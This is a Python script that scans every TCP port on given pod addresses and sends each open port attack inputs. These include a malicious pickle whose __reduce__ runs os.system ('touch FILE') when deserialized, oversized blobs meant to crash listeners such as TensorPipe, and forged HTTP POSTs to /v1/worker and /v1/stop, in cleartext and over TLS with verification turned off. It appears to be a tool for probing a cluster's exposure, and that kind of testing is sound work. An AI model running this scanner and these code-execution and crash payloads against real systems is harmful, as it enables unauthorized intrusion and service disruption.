"""What somebody does who reaches a pod's network: finds open TCP ports, and says to each what could run code there or end who listens.

``port_attacker.py FILE ADDRESS...`` prints what each port answered, as JSON: ``{address: {port: [hex, ...]}}``. Code that runs makes FILE.
It needs nothing but Python, so that any pod can run it.
"""

import asyncio
import contextlib
import json
import os
import pickle
import ssl
import sys
from collections.abc import Awaitable, Callable

SECONDS = 2.0
"""For a word and its answer."""
AT_ONCE = 500
FIRST, LAST = 1, 65535
LONGEST = 4096
"""Bytes of an answer that are kept."""


class Bomb:
    """Who unpickles it makes the file."""

    def __init__(self, file: str) -> None:
        self.file = file

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (f"touch {self.file}",)


def words(file: str) -> list[bytes]:
    """What is said, on a connection each."""
    bomb = pickle.dumps(Bomb(file))
    view = b'{"number": 1000000, "members": []}'
    request = b"POST %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer x\r\nContent-Length: %d\r\n\r\n%s"
    return [
        b"",
        b"\xff" * 72,  # ended a listener of TensorPipe
        bytes(4096),
        len(bomb).to_bytes(8, "little") + bomb,
        bomb,
        *(request % (path, len(view), view) for path in (b"/v1/worker", b"/v1/view", b"/v1/source", b"/v1/stop")),
    ]


async def open_ports(address: str) -> list[int]:
    """Those that take a connection."""
    limit = asyncio.Semaphore(AT_ONCE)

    async def is_open(port: int) -> bool:
        async with limit:
            try:
                _, writer = await asyncio.wait_for(asyncio.open_connection(address, port), SECONDS)
            except (OSError, TimeoutError):
                return False
            writer.close()
            return True

    ports = range(FIRST, LAST + 1)
    return [port for port, found in zip(ports, await asyncio.gather(*map(is_open, ports)), strict=True) if found]


async def answer(address: str, port: int, word: bytes, tls: ssl.SSLContext | None = None) -> bytes:
    """What comes back, until the end or until nothing more does."""
    said = b""

    async def talk() -> None:
        nonlocal said
        reader, writer = await asyncio.open_connection(address, port, ssl=tls)
        try:
            writer.write(word)
            while len(said) < LONGEST and (part := await reader.read(LONGEST)):
                said += part
        finally:
            writer.transport.abort()

    with contextlib.suppress(OSError, TimeoutError):  # no answer is one, too
        await asyncio.wait_for(talk(), SECONDS)
    return said


async def attack(file: str, address: str) -> dict[int, list[str]]:
    """All words to all ports, in the clear and over TLS."""
    anybody = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    anybody.check_hostname, anybody.verify_mode = False, ssl.CERT_NONE
    found = {}
    for port in await open_ports(address):
        tries: list[Awaitable[bytes]] = [answer(address, port, word, tls) for tls in (None, anybody) for word in words(file)]
        found[port] = [said.hex() for said in await asyncio.gather(*tries)]
    return found


async def main(file: str, addresses: list[str]) -> None:
    """Print what was found."""
    print(json.dumps({address: await attack(file, address) for address in addresses}))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2:]))
